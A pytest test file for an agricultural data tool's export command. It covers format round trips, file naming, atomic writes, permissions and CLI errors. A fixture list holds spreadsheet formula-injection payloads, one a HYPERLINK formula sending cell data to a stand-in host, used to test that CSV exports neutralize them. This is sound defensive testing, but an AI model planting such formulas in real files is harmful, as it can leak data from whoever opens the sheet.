"""`agroml export` and agroml.data.exporting: round trips per format, naming, atomic writes, privacy, errors."""

from __future__ import annotations

import json
import os
import re
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest

from agroml.core import config, schema
from agroml.core.errors import NoDataError, OutputError
from agroml.data import records as rec
from agroml.data.exporting import export_columns, export_records, pandas_dtypes
from agroml.data.sources import LocalSource
from agroml.data.store import Store

NAME = re.compile(r"^(pest|disease|storage)_(training|all)_\d{8}T\d{6}Z\.(csv|jsonl|parquet)$")


def _raw_rows(n: int, id_prefix: str = "") -> list[dict]:
    """AgroShield-shaped pest rows with every kind of value an export must carry through unchanged."""
    labels = ["Fall Armyworm", "aphids", "stem borer", "healthy"]
    texts = [None, "", "NA", "null", 'with, comma "and quotes"\nand a new line', "Kiswahili: mdudu ñ 🌽"]
    rows = []
    for i in range(n):
        confirmed = [True, False, None, None][i % 4]
        rows.append(
            {
                "id": id_prefix + (f"{i:05d}" if i % 7 else f"{i}e3"),  # ids that look like numbers stay text
                "farmer_id": f"farmer-{i % 5}",
                "image_url": None if i % 23 == 5 else f"https://x.supabase.co/storage/v1/object/public/p/{i}.jpg",
                "pest_detected": labels[i % 4],
                "confidence_score": 1.5 if i % 29 == 3 else (i * 0.1234567891234567) % 1,
                "user_confirmed": confirmed,
                "actual_pest": labels[(i + 1) % 4] if (confirmed is False and i % 3) else None,
                "user_feedback": texts[i % len(texts)],
                "crop_affected": ["maize", None, "beans"][i % 3],
                "farm_location": ["Nakuru", None, "Kisumu, Nyanza"][i % 3],
                "latitude": None if i % 4 == 1 else -0.3 - i / 3,
                "longitude": None if i % 4 == 1 else 36.0 + i / 7,
                "severity": ["low", None, "high"][i % 3],
                "created_at": f"2025-{1 + i % 12:02d}-0{1 + i % 9}T{i % 24:02d}:15:0{i % 10}.{i:06d}+03:00",
                "image_metadata": {"w": 640, "note": 'a "quoted", value'} if i % 2 else None,
                "alternative_predictions": [{"pest": "aphids", "confidence": 0.1}] if i % 3 == 0 else None,
            }
        )
    return rows


def _store_rows(settings: config.Settings, n: int = 60, model_type: str = "pest") -> None:
    spec = schema.table_spec(model_type)
    raw = _raw_rows(n, "" if model_type == "pest" else model_type)  # ids are unique per (source, id)
    if model_type != "pest":  # same values under this type's column names
        rename = {"pest_detected": spec.column("predicted"), "actual_pest": spec.column("actual")}
        raw = [{rename.get(k, k): v for k, v in row.items() if rename.get(k, k)} for row in raw]
    with Store(settings.db_path) as store:
        normalized = rec.normalize_rows(raw, spec, "supabase", store.salt())
        store.upsert(normalized.records)


@pytest.fixture
def store_data(workdir: Path) -> config.Settings:
    settings = config.resolve(env_file=None)
    _store_rows(settings, 60, "pest")
    _store_rows(settings, 30, "disease")
    return settings


def _expected(
    settings: config.Settings, model_type: str, scope: str, include_personal: bool = False, fmt: str = "parquet"
) -> pd.DataFrame:
    """The store's rows for an export, in the read-back dtypes (strings as pandas' str).

    CSV's one documented loss: it cannot tell empty text from null, so "" reads back as null.
    """
    columns = export_columns(scope, include_personal)
    with Store(settings.db_path) as store:
        df = store.read(
            model_type, columns=columns, include_personal=include_personal, valid_only=scope == "training", order="key"
        )  # the order an export reads in
    if scope == "training":
        df = df[df["label"].notna()].reset_index(drop=True)
    df = df.astype({c: "str" for c in columns if df[c].dtype == object})
    if fmt == "csv" and "feedback_text" in df:
        df["feedback_text"] = df["feedback_text"].replace("", None)
    return df


def _read_back(path: Path, fmt: str, columns: list[str]) -> pd.DataFrame:
    """The README's read-back recipe per format: plain pandas, no agroml."""
    dtypes = pandas_dtypes(columns)
    if fmt == "parquet":
        return pd.read_parquet(path)
    if fmt == "csv":
        return pd.read_csv(path, dtype=dtypes, parse_dates=["created_at"], keep_default_na=False, na_values=[""])
    df = pd.read_json(path, lines=True, dtype=dtypes | {"created_at": "str"}, precise_float=True)
    df["created_at"] = pd.to_datetime(df["created_at"], utc=True, format="ISO8601").astype("datetime64[us, UTC]")
    return df


def _export(settings: config.Settings, model: str = "pest", scope: str = "all", fmt: str = "parquet", **kw):
    with LocalSource(settings) as source:
        return export_records(source, model, scope, fmt, settings.exports_dir, **kw)


@pytest.mark.parametrize("fmt", ["parquet", "csv", "json"])
@pytest.mark.parametrize("scope", ["all", "training"])
def test_round_trip_equals_the_store(store_data, fmt, scope):
    result = _export(store_data, "pest", scope, fmt, chunk_rows=7)  # several chunks per file
    (file,) = result.files
    expected = _expected(store_data, "pest", scope, fmt=fmt)
    assert file.rows == len(expected) > 0
    back = _read_back(file.path, fmt, export_columns(scope))
    if scope == "all":  # the tricky values are really there
        stored = _expected(store_data, "pest", scope)
        assert (stored["feedback_text"] == "").any() and stored["invalid_reason"].notna().any()
        assert stored["user_confirmed"].isna().any() and stored["latitude"].isna().any()
    pd.testing.assert_frame_equal(back, expected, check_exact=True)
    assert str(back["created_at"].dt.tz) == "UTC"
    if fmt == "parquet" and scope == "all":  # written a chunk at a time: one row group per chunk of 7 rows
        import pyarrow.parquet as pq

        assert pq.ParquetFile(file.path).num_row_groups == -(-file.rows // 7)
    assert back["user_confirmed"].dtype == "boolean" if scope == "all" else "user_confirmed" not in back


def test_round_trip_on_demo_data(request):
    demo_data = request.getfixturevalue("demo_data")
    for fmt in ("parquet", "csv", "json"):
        result = _export(demo_data, "all", "all", fmt, chunk_rows=50)
        assert [f.model_type for f in result.files] == ["pest", "disease", "storage"]
        for file in result.files:
            back = _read_back(file.path, fmt, export_columns("all"))
            expected = _expected(demo_data, file.model_type, "all", fmt=fmt)
            pd.testing.assert_frame_equal(back, expected, check_exact=True)


def test_export_reads_the_store_in_key_order(store_data):
    """Key order (a plain table scan, the fast path) holds the same rows as time order."""
    with Store(store_data.db_path) as store:
        by_key = store.read("pest", order="key")
        by_time = store.read("pest")
    assert list(zip(by_key["source"], by_key["id"], strict=True)) == sorted(
        zip(by_time["source"], by_time["id"], strict=True)
    )
    resorted = by_time.sort_values(["source", "id"]).reset_index(drop=True)
    pd.testing.assert_frame_equal(by_key, resorted, check_exact=True)
    with Store(store_data.db_path) as store, pytest.raises(ValueError, match="unknown order 'random'"):
        store.read("pest", order="random")


def test_csv_and_json_write_iso_times_with_offset_and_json_text_for_nested_fields(store_data):
    csv = _export(store_data, fmt="csv").files[0].path
    first = pd.read_csv(csv, dtype=str, nrows=1).iloc[0]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00", first["created_at"])
    lines = _export(store_data, fmt="json").files[0].path.read_text(encoding="utf-8").splitlines()
    objects = [json.loads(line) for line in lines]
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00", o["created_at"]) for o in objects)
    extras = [o["extra"] for o in objects if o["extra"] is not None]
    assert extras and all(isinstance(e, str) for e in extras)  # JSON text, as in CSV and Parquet
    assert {"w": 640, "note": 'a "quoted", value'} in [json.loads(e).get("image_metadata") for e in extras]
    assert first["extra"] is None or json.loads(first["extra"])


def test_file_name_pattern_and_one_file_per_model_type(store_data):
    result = _export(store_data, "all", "training", "csv")
    assert [f.model_type for f in result.files] == ["pest", "disease"]  # storage has no rows: no file
    assert result.warnings == ["storage: no rows in the local source, no file written"]
    umask = os.umask(0o22)
    os.umask(umask)
    for file in result.files:
        assert file.path.stat().st_mode & 0o777 == 0o666 & ~umask  # an ordinary file, not owner-only
        assert file.path.parent == Path("exports")
        assert NAME.match(file.path.name), file.path.name
        assert file.path.name.startswith(f"{file.model_type}_training_")


def test_same_second_exports_never_overwrite(store_data):
    when = datetime(2026, 11, 26, 13, 5, 1, tzinfo=UTC)
    first = _export(store_data, now=when).files[0].path
    second = _export(store_data, now=when).files[0].path
    assert first.name == "pest_all_20261126T130501Z.parquet"
    assert second.name == "pest_all_20261126T130501Z-2.parquet"
    assert first.exists() and second.exists()


def test_training_scope_counts_add_up_to_all(store_data):
    every = _export(store_data, scope="all").files[0]
    training = _export(store_data, scope="training").files[0]
    with Store(store_data.db_path) as store:
        df = store.read("pest")
    labelled = df["invalid_reason"].isna() & df["label"].notna()
    assert every.rows == len(df) == 60
    assert training.rows == int(labelled.sum())
    assert training.rows + sum(training.excluded.values()) == every.rows
    assert training.excluded["no_feedback"] == int((df["invalid_reason"].isna() & (df["feedback"] == "none")).sum())
    assert set(training.excluded) >= {"no_image", "bad_confidence", "rejected", "no_feedback"}
    back = pd.read_parquet(training.path)
    assert back["label"].notna().all() and set(back["feedback"]) == {"confirmed", "corrected"}
    assert "invalid_reason" not in back and "feedback_text" not in back


@pytest.mark.parametrize("fmt", ["parquet", "csv", "json"])
def test_farmer_id_only_with_include_personal(store_data, fmt):
    columns = export_columns("all")
    plain = _read_back(_export(store_data, fmt=fmt).files[0].path, fmt, columns)
    assert "farmer_id" not in plain and plain["farmer_key"].notna().all()
    assert not plain.isin(["farmer-1"]).any().any()
    personal_columns = export_columns("all", include_personal=True)
    personal = _read_back(_export(store_data, fmt=fmt, include_personal=True).files[0].path, fmt, personal_columns)
    assert list(personal.columns) == personal_columns
    assert set(personal["farmer_id"]) == {f"farmer-{i}" for i in range(5)}
    pd.testing.assert_frame_equal(
        personal, _expected(store_data, "pest", "all", include_personal=True, fmt=fmt), check_exact=True
    )


def test_empty_result_writes_a_header_only_file_and_says_so(store_data):
    result = _export(store_data, "storage", "training", "csv")
    (file,) = result.files
    assert file.rows == 0
    assert file.path.read_text().strip() == ",".join(export_columns("training"))
    assert result.warnings == [
        f"storage: no rows in scope 'training', wrote {file.path} with no rows (the local source has no storage rows)"
    ]
    late = _export(store_data, "pest", "all", "parquet", since="2030-01-01").files[0]
    assert late.rows == 0 and list(pd.read_parquet(late.path).columns) == export_columns("all")


def test_failure_mid_write_leaves_no_file(store_data):
    """A failure after the first chunk is written (here the caller's progress callback: Ctrl-C)."""

    def interrupt(task: str, done: int, total: int | None = None, info: str = "") -> None:
        if done > 0:
            raise KeyboardInterrupt

    for fmt in ("parquet", "csv", "json"):
        with pytest.raises(KeyboardInterrupt):
            _export(store_data, fmt=fmt, chunk_rows=10, progress=interrupt)
    assert sorted(os.listdir("exports")) == []  # no temporary file, no partial export


def test_unwritable_folder_is_an_output_error(store_data, workdir):
    blocker = workdir / "not_a_folder"
    blocker.write_text("a file where the export folder's parent should be")
    with LocalSource(store_data) as source, pytest.raises(OutputError) as info:
        export_records(source, "pest", "all", "csv", blocker / "exports")
    assert str(info.value) == (
        f"cannot write to export folder {blocker / 'exports'}: Not a directory "
        "(choose a writable folder with --out DIR or set AGROML_EXPORTS_DIR)"
    )
    assert sorted(os.listdir(workdir)) == ["data", "not_a_folder"]


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_read_only_folder_is_an_output_error(store_data, workdir):
    folder = workdir / "locked"
    folder.mkdir(mode=0o500)
    try:
        with LocalSource(store_data) as source, pytest.raises(OutputError, match="Permission denied"):
            export_records(source, "pest", "all", "csv", folder)
    finally:
        folder.chmod(0o700)


def test_missing_and_empty_store_are_no_data(workdir):
    settings = config.resolve(env_file=None)
    with pytest.raises(NoDataError):
        _export(settings)
    Store(settings.db_path).close()  # a store with no rows
    with pytest.raises(NoDataError, match=r"^no data: run `agroml demo` or `agroml pull`$"):
        _export(settings)
    assert not Path("exports").exists()


# --- the command ----------------------------------------------------------------------------------
def test_cli_prints_each_path_and_row_count(cli, store_data):
    result = cli("export", "--model", "all", "--scope", "all", "--format", "json")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert len(lines) == 2
    for line, model, rows in zip(lines, ("pest", "disease"), (60, 30), strict=True):
        path, count = re.fullmatch(r"(\S+)\s+(\d+) rows", line).groups()
        assert Path(path).parent == Path("exports") and Path(path).name.startswith(f"{model}_all_")
        assert NAME.match(Path(path).name) and int(count) == rows
        assert len(Path(path).read_text().splitlines()) == rows
    assert "storage: no rows in the local source, no file written" in result.stderr


def test_cli_training_scope_json_and_out_flag(cli, store_data, workdir):
    result = cli("export", "--model", "pest", "--out", "elsewhere", "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    (file,) = report["files"]
    assert (report["format"], report["scope"]) == ("parquet", "training")
    assert Path(file["path"]).parent == Path("elsewhere") and (workdir / file["path"]).exists()
    assert file["rows"] == len(pd.read_parquet(workdir / file["path"])) > 0
    assert "pest: left out" in result.stderr and "--scope all exports every row" in result.stderr


def test_cli_unwritable_folder_exits_1_with_the_fix(cli, store_data, workdir):
    (workdir / "afile").write_text("x")
    result = cli("export", "--model", "pest", "--out", "afile/exports")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.strip() == (
        "error: cannot write to export folder afile/exports: Not a directory "
        "(choose a writable folder with --out DIR or set AGROML_EXPORTS_DIR)"
    )


def test_cli_exports_dir_setting_and_empty_store(cli, workdir, monkeypatch):
    result = cli("export")
    assert result.exit_code == 1
    assert result.stderr.strip() == "error: no data: run `agroml demo` or `agroml pull`"
    _store_rows(config.resolve(env_file=None), 8)
    monkeypatch.setenv("AGROML_EXPORTS_DIR", "from_env")
    result = cli("export", "--scope", "all", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("from_env/pest_all_") and result.stdout.rstrip().endswith("  8 rows")


def test_cli_bad_format_is_usage_error(cli, store_data):
    result = cli("export", "--format", "xlsx")
    assert result.exit_code == 2
    assert "xlsx" in result.stderr


# --- hostile cells, personal files, killed exports --------------------------------------------------
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _hostile_rows(settings: config.Settings) -> None:
    """Rows whose every free-text column (id, farmer id, url, location, feedback, extra) starts a formula."""
    raw = []
    for i, text in enumerate(FORMULAS * 2):
        raw.append(
            {
                "id": f"{text}{i}",
                "farmer_id": text,
                "image_url": f"{text}.jpg",
                "pest_detected": "aphids",
                "confidence_score": 0.5,
                "user_confirmed": True,
                "user_feedback": text,
                "farm_location": text,
                "latitude": -1.5,  # a negative number is a number, not text: never prefixed
                "created_at": "2025-03-01T10:00:00+00:00",
                "image_metadata": {"note": text},
            }
        )
    with Store(settings.db_path) as store:
        store.upsert(rec.normalize_rows(raw, schema.table_spec("pest"), "supabase", store.salt()).records)


def _csv_cells(path: Path) -> list[dict[str, str]]:
    import csv

    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_neutralizes_formula_cells_in_every_text_column_and_other_formats_stay_exact(workdir):
    settings = config.resolve(env_file=None)
    _hostile_rows(settings)
    stored = _expected(settings, "pest", "all", include_personal=True, fmt="parquet").set_index("id", drop=False)
    text_columns = [n for n, t in pandas_dtypes(export_columns("all", True)).items() if t == "str"]
    csv_file = _export(settings, "pest", "all", "csv", include_personal=True).files[0]
    neutralized: dict[str, int] = {}
    cells = _csv_cells(csv_file.path)
    assert len(cells) == len(stored) == len(FORMULAS) * 2
    for cell_row in cells:
        want = stored.loc[cell_row["id"].removeprefix("'")]
        for name in text_columns:
            value = want[name]
            if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert cell_row[name] == "'" + value, (name, value)
                neutralized[name] = neutralized.get(name, 0) + 1
            else:
                assert cell_row[name] == ("" if pd.isna(value) else value), (name, value)
        assert cell_row["latitude"] == "-1.5"
    # every hostile column was hit, each with every dangerous first character
    assert set(neutralized) >= {"id", "farmer_id", "image_url", "location", "feedback_text"}
    assert all(n == len(FORMULAS) * 2 for name, n in neutralized.items() if name != "image_url")
    for fmt in ("parquet", "json"):  # exact, byte for byte in the values
        back = _read_back(_export(settings, "pest", "all", fmt, include_personal=True).files[0].path, fmt, [])
        assert sorted(back["feedback_text"]) == sorted(FORMULAS * 2)
        assert sorted(back["farmer_id"]) == sorted(FORMULAS * 2)


def test_cli_raw_csv_writes_cells_unchanged(cli, workdir):
    settings = config.resolve(env_file=None)
    _hostile_rows(settings)
    result = cli("export", "--model", "pest", "--scope", "all", "--format", "csv", "--raw-csv", "--json")
    assert result.exit_code == 0, result.output
    path = Path(json.loads(result.stdout)["files"][0]["path"])
    assert sorted(c["feedback_text"] for c in _csv_cells(path)) == sorted(FORMULAS * 2)
    default = cli("export", "--model", "pest", "--scope", "all", "--format", "csv", "--json")
    path = Path(json.loads(default.stdout)["files"][0]["path"])
    assert sorted(c["feedback_text"] for c in _csv_cells(path)) == sorted("'" + f for f in FORMULAS * 2)
    assert "--raw-csv" in cli("export", "--help").stdout


@pytest.mark.parametrize("fmt", ["parquet", "csv", "json"])
def test_include_personal_exports_are_owner_only_and_others_keep_the_umask(store_data, fmt):
    umask = os.umask(0o022)
    try:
        personal = _export(store_data, fmt=fmt, include_personal=True).files[0].path
        plain = _export(store_data, fmt=fmt).files[0].path
    finally:
        os.umask(umask)
    assert personal.stat().st_mode & 0o777 == 0o600
    assert plain.stat().st_mode & 0o777 == 0o644


_KILLED_EXPORT = """
import os, signal, sys
from agroml.core import config
from agroml.data.exporting import export_records
from agroml.data.sources import LocalSource

def die(task, done, total=None, info=""):
    if done > 0:  # the first chunk is in the temporary file: the run dies as kill -9 kills it
        os.kill(os.getpid(), signal.SIGKILL)

with LocalSource(config.resolve(env_file=None)) as source:
    export_records(source, "pest", "all", sys.argv[1], "exports", chunk_rows=5, progress=die)
"""


def test_next_export_removes_a_killed_exports_temporary_file_but_not_a_live_ones(store_data, workdir):
    import subprocess
    import sys

    left = []
    for fmt in ("csv", "parquet"):  # each killed run removes the one before's temporary file
        killed = subprocess.run([sys.executable, "-c", _KILLED_EXPORT, fmt], cwd=workdir, timeout=120)
        assert killed.returncode == -9
        left.append(sorted(p.name for p in Path("exports").iterdir()))
    assert [len(names) for names in left] == [1, 1] and left[0] != left[1]
    assert left[1][0].startswith(".pest_all_") and left[1][0].endswith(".parquet." + left[1][0].split(".")[-2] + ".tmp")
    stale = Path("exports") / ".disease_training_20250101T000000Z.jsonl.1234.abcd.tmp"  # an older run's name
    stale.write_text("{}")
    other = Path("exports") / ".notes.txt.tmp"  # not an export's: never touched
    other.write_text("mine")
    live = Path("exports") / ".pest_all_20250101T000000Z.csv.live.tmp"
    live.write_text("being written")
    holder = subprocess.Popen(  # a live export elsewhere, holding its temporary file's lock
        [
            sys.executable,
            "-c",
            "import fcntl,sys,time; f=open(sys.argv[1]); fcntl.flock(f, fcntl.LOCK_EX); "
            "print('held', flush=True); time.sleep(60)",
            str(live),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        result = _export(store_data, "pest", "all", "csv")
    finally:
        holder.kill()
        holder.wait()
        holder.stdout.close()
    hidden = sorted(p.name for p in Path("exports").iterdir() if p.name.startswith("."))
    assert hidden == sorted([other.name, live.name])
    assert result.warnings == ["removed 2 temporary file(s) that a killed export left in exports"]
